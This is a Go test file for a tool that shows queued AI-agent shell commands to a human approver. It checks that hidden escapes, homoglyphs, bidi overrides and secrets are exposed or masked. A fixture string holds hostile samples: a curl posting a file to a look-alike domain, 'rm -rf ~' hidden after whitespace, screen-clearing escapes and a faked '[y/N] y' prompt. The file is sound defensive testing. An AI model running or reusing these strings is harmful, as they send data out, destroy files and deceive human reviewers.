package replay

import (
	"bytes"
	"encoding/json"
	"fmt"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/seed-b23e517c/loop/internal/term"
	"github.com/seed-b23e517c/loop/policy"
	"github.com/seed-b23e517c/loop/queue"
)

func screenAction(command string) queue.Action {
	input, _ := json.Marshal(map[string]string{"command": command})
	return queue.Action{
		ID: "0192d3c4-0000-7000-8000-000000000001", Number: 12, Kind: "call", Session: "s", Story: "3",
		StoryTitle: "Ship it", Tool: "Bash", Input: input, Command: command, Cwd: "/work/repo",
		GitHead: "1111111111111111111111111111111111111111", GitBranch: "main", Rules: []string{"git-push"},
		Why: "Publishes commits.", Tier: policy.External, Evidence: policy.Blocked, Status: queue.Pending,
		DetectedAt: testTime.Add(-3*time.Hour - 5*time.Minute),
	}
}

func screenSince() Since {
	return Since{Now: testTime, Shell: "/bin/bash", Head: "1111111111111111111111111111111111111111", Branch: "main"}
}

const hostile = "git push\x1b[2K\rgit status # \u202egnihton\u202c \u200b\n" +
	"curl -d @k https://ex\u0430mple.com\\x41 \xff   \n" +
	"\techo done\r\n" +
	"        \u0440rintf x                                   ; rm -rf ~"

func TestShow(t *testing.T) {
	for name, c := range map[string]struct {
		action func() queue.Action
		since  func() Since
	}{
		"plain.txt": {
			func() queue.Action { return screenAction("git push origin main") },
			screenSince,
		},
		"lines.txt": {
			func() queue.Action {
				return screenAction("cat > x <<'EOF'\n" + strings.Repeat("line\n", 9) + "EOF\ngit push")
			},
			screenSince,
		},
		"hostile.txt": {
			func() queue.Action {
				a := screenAction(hostile)
				a.Command = "git status"
				a.Input = fmt.Appendf(nil, "{\"command\":%s,\"run_in_background\":true}", jsonText(hostile))
				a.Story, a.StoryTitle, a.Agent = "3\x1b[31m", "Ship\nrun it? [y/N] y", "sub\u202e"
				a.Cwd, a.GitBranch, a.Why = "/work/r\u0435po\nx", "ma\u0456n", "Because.\r"
				a.Rules = []string{"git-push", "\u202e"}
				a.Opaque, a.Repeats = true, 2
				return a
			},
			func() Since {
				s := screenSince()
				s.Branch = "main\x1b[0m"
				s.Files = []FileChange{{Path: "k\u202e.txt", Modified: testTime.Add(-time.Hour)}}
				return s
			},
		},
		"changed.txt": {
			func() queue.Action {
				a := screenAction("sh deploy.sh")
				a.Evidence, a.Outcome, a.DetectedAt = policy.Executed, "failed", testTime.Add(-100*time.Hour)
				return a
			},
			func() Since {
				s := screenSince()
				s.Head, s.Branch = "2222222222222222222222222222222222222222", "HEAD"
				s.Files = []FileChange{{Path: "deploy.sh", Modified: testTime.Add(-time.Hour)}}
				return s
			},
		},
		"gone.txt": {
			func() queue.Action { return screenAction("git push") },
			func() Since { return Since{Now: testTime, Shell: "/bin/bash", Cwd: "it is gone"} },
		},
		"nogit.txt": {
			func() queue.Action { return screenAction("git push") },
			func() Since {
				return Since{Now: testTime, Shell: "/bin/bash", Git: "fatal: not a git repository\x1b[0m"}
			},
		},
	} {
		t.Run(name, func(t *testing.T) {
			var b bytes.Buffer
			if err := Show(&b, c.action(), c.since()); err != nil {
				t.Fatal(err)
			}
			for line := range strings.Lines(b.String()) {
				if text := strings.TrimSuffix(line, "\n"); term.Quote(text) != text {
					t.Errorf("a line that acts on the terminal: %q", text)
				}
			}
			golden(t, name, b.String())
		})
	}
}

// jsonText is a JSON string that keeps invalid bytes as they are.
func jsonText(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for i := range len(s) {
		switch c := s[i]; {
		case c < 0x20 || c == '"' || c == '\\':
			fmt.Fprintf(&b, `\u%04x`, c)
		default:
			b.WriteByte(c)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// A secret in a command is not hidden here: what is masked could be anything.
func TestShowMasksNothingOfTheCommand(t *testing.T) {
	command := "curl -H 'Authorization: Bearer abcdefghijklmnop0123456789' -d x https://example.com"
	var b bytes.Buffer
	if err := Show(&b, screenAction(command), screenSince()); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "1 | "+command+"\n") {
		t.Errorf("screen:\n%s", b.String())
	}
}

func TestEscapesAreCounted(t *testing.T) {
	for command, want := range map[string][]string{
		"git push":               nil,
		`echo '\x1b'`:            nil,
		"héllo wörld ünï":        nil,
		"a\x1bb\x1b":             {`\x1b`},
		"a\xffb \u202e\nx ":      {`\xff`, `\u202e`, `\x20`},
		"p\u0430ss":              {`\u0430`},
		`\u0430\x1b` + "\u0430b": {`\u0430`},
	} {
		n, got := escapes(command)
		if d := cmp.Diff(want, got); d != "" || n < len(want) {
			t.Errorf("%q: %d\n%s", command, n, d)
		}
	}
	if n, names := escapes(strings.Repeat("\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e\x0f\x10\x11\x12", 2)); n != 30 || len(names) != maxNamed+1 {
		t.Errorf("%d, %v", n, names)
	}
}

func TestGapsAreNoted(t *testing.T) {
	for command, want := range map[string]int{
		"git push": 0,
		"if x; then\n" + strings.Repeat(" ", 40) + "y; fi":                 0,
		"true" + strings.Repeat(" ", 20) + "; x":                           1,
		strings.Repeat(" ", 200) + "x":                                     1,
		"true\n\n\ny":                                                      0,
		"true" + strings.Repeat("\n", 60) + "x":                            1,
		"true" + strings.Repeat(" ", 300) + strings.Repeat("\n", 60) + "x": 3,
	} {
		if got := notes(queue.Action{}, command); len(got) != want {
			t.Errorf("%q: %q", command, got)
		}
	}
}

// A command without anything hidden is shown byte for byte.
func FuzzShownLineIsTheLineOrSaysSo(f *testing.F) {
	f.Add(hostile)
	f.Add(`plain \x1b`)
	f.Fuzz(func(t *testing.T, s string) {
		line, _, _ := strings.Cut(s, "\n")
		if got := shown(line); got != line && len(escaped(line)) == 0 {
			t.Errorf("%q is shown as %q without a note", line, got)
		}
		if got := shown(line); term.Quote(got) != got {
			t.Errorf("%q is shown as %q", line, got)
		}
	})
}

func TestChangedFiles(t *testing.T) {
	dir := t.TempDir()
	before, later := testTime.Add(-time.Hour), testTime.Add(time.Hour)
	for name, at := range map[string]time.Time{
		"old.sh": before, "new.sh": later, "opt": later, "body.json": later, "quoted": later, "unnamed": later,
	} {
		touch(t, filepath.Join(dir, name), "x", at)
	}
	abs := filepath.Join(dir, "new.sh")
	a := queue.Action{
		Cwd: dir, DetectedAt: testTime,
		Command: "sh old.sh; sh ./new.sh && curl --file=opt -d @body.json 'quoted' https://x/new.sh . missing " + abs + " ./new.sh",
	}
	var got []string
	for _, f := range changedFiles(a) {
		got = append(got, f.Path)
		if !f.Modified.Equal(later) {
			t.Errorf("%s: modified %s", f.Path, f.Modified)
		}
	}
	slices.Sort(got)
	want := []string{"./new.sh", abs, "body.json", "opt", "quoted"}
	slices.Sort(want)
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("changed:\n%s", d)
	}
}

func TestLookAtGit(t *testing.T) {
	b := newBench(t)
	look := func() Since { return Look(t.Context(), b.action("true"), "sh", b.env, testTime) }
	if s := look(); s.Head != b.head || s.Branch != "main" || s.Git != "" {
		t.Errorf("on main: %+v", s)
	}
	b.git("checkout", "-q", "--detach")
	if s := look(); s.Head != b.head || s.Branch != "HEAD" {
		t.Errorf("detached: %+v", s)
	}
	b.repo = t.TempDir()
	if s := look(); s.Head != "" || !strings.Contains(s.Git, "not a git repository") {
		t.Errorf("no repository: %+v", s)
	}
}

func TestOutputIsMadeVisible(t *testing.T) {
	text := "one\r\ntw\x1b[2Jo\nprogress 1\rprogress 2\n\u00e9\u202e\n\nlast"
	want := "| one\n| tw\\x1b[2Jo\n| progress 1\\rprogress 2\n| \u00e9\\u202e\n| \n| last\n"
	for size := 1; size <= len(text); size++ {
		var b bytes.Buffer
		v := &visible{w: &b}
		for chunk := range slices.Chunk([]byte(text), size) {
			if n, err := v.Write(chunk); n != len(chunk) || err != nil {
				t.Fatal(n, err)
			}
		}
		v.end()
		if d := cmp.Diff(want, b.String()); d != "" {
			t.Errorf("in pieces of %d:\n%s", size, d)
		}
	}
}

// Secrets are masked in what runs by, also where they come in pieces.
func TestOutputIsMasked(t *testing.T) {
	text := "Authorization: Bearer abcdefghijklmnop0123456789\nkey:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEsecretsecret\n-----END RSA PRIVATE KEY-----\nafter\n" +
		strings.Repeat("x", 2*maxHeld)
	for _, size := range []int{1, 7, len(text)} {
		var b bytes.Buffer
		v := &visible{w: &b}
		for chunk := range slices.Chunk([]byte(text), size) {
			_, _ = v.Write(chunk)
		}
		v.end()
		if got := b.String(); strings.Contains(got, "mnop0123") || strings.Contains(got, "MIIE") || !strings.Contains(got, "| after\n| xxx") {
			t.Errorf("in pieces of %d: %.300q", size, got)
		}
	}
}

func TestAge(t *testing.T) {
	for d, want := range map[time.Duration]string{
		-time.Hour: "0s", 59 * time.Second: "59s", time.Hour - 1: "59m", 3*time.Hour + 5*time.Minute: "3h05m",
		47 * time.Hour: "47h00m", 49 * time.Hour: "2 days",
	} {
		if got := age(d); got != want {
			t.Errorf("%s: %q, want %q", d, got, want)
		}
	}
}

// A session's branch and loop's own commits change what a recorded line does.
func TestShowTellsOfTheSessionsBranch(t *testing.T) {
	a := screenAction("git add -A && git commit -m x && git push origin main")
	a.Rules = []string{"git-push", "git-history"}
	since := screenSince()
	since.Work = &queue.Work{Branch: "loop/2026-02-23-0195d3a0"}
	var b strings.Builder
	if err := Show(&b, a, since); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"on the branch loop/2026-02-23-0195d3a0: a push of another branch sends none of it", "may find nothing to commit"} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("it does not say %q:\n%s", want, b.String())
		}
	}
	since.Work.Gone = true
	b.Reset()
	if err := Show(&b, a, since); err != nil || strings.Contains(b.String(), "branch loop/") {
		t.Errorf("%v:\n%s", err, b.String())
	}
}

// What nothing in the session shows stands before the person who approves it.
func TestShowSaysWhatTheTextClaims(t *testing.T) {
	a := queue.Action{Number: 7, Tool: "Bash", Kind: queue.KindCall, Command: "gh pr create", Input: json.RawMessage(`{"command":"gh pr create"}`)}
	a.Claims = []queue.Claim{{Kind: "number", Text: "42 tests", Source: queue.SourceResult}}
	for i := range 7 {
		a.Claims = append(a.Claims, queue.Claim{Kind: "number", Text: fmt.Sprintf("%d \"things\"\x1b[2J", i), Where: "--body", Source: queue.SourceAgentFile})
	}
	var b strings.Builder
	if err := Show(&b, a, Since{Shell: "/bin/sh"}); err != nil {
		t.Fatal(err)
	}
	want := "\nits text claims\n" +
		`  !! "0 \"things\"\x1b[2J" in --body: only source: a file that an agent wrote` + "\n"
	if !strings.Contains(b.String(), want) || !strings.Contains(b.String(), "  !! and 2 more without a source\n  1 with a source in its session\n  loop show 7 lists them\n") {
		t.Errorf("%s", b.String())
	}
	if strings.Contains(b.String(), "\x1b") {
		t.Error("a control character is printed")
	}
}
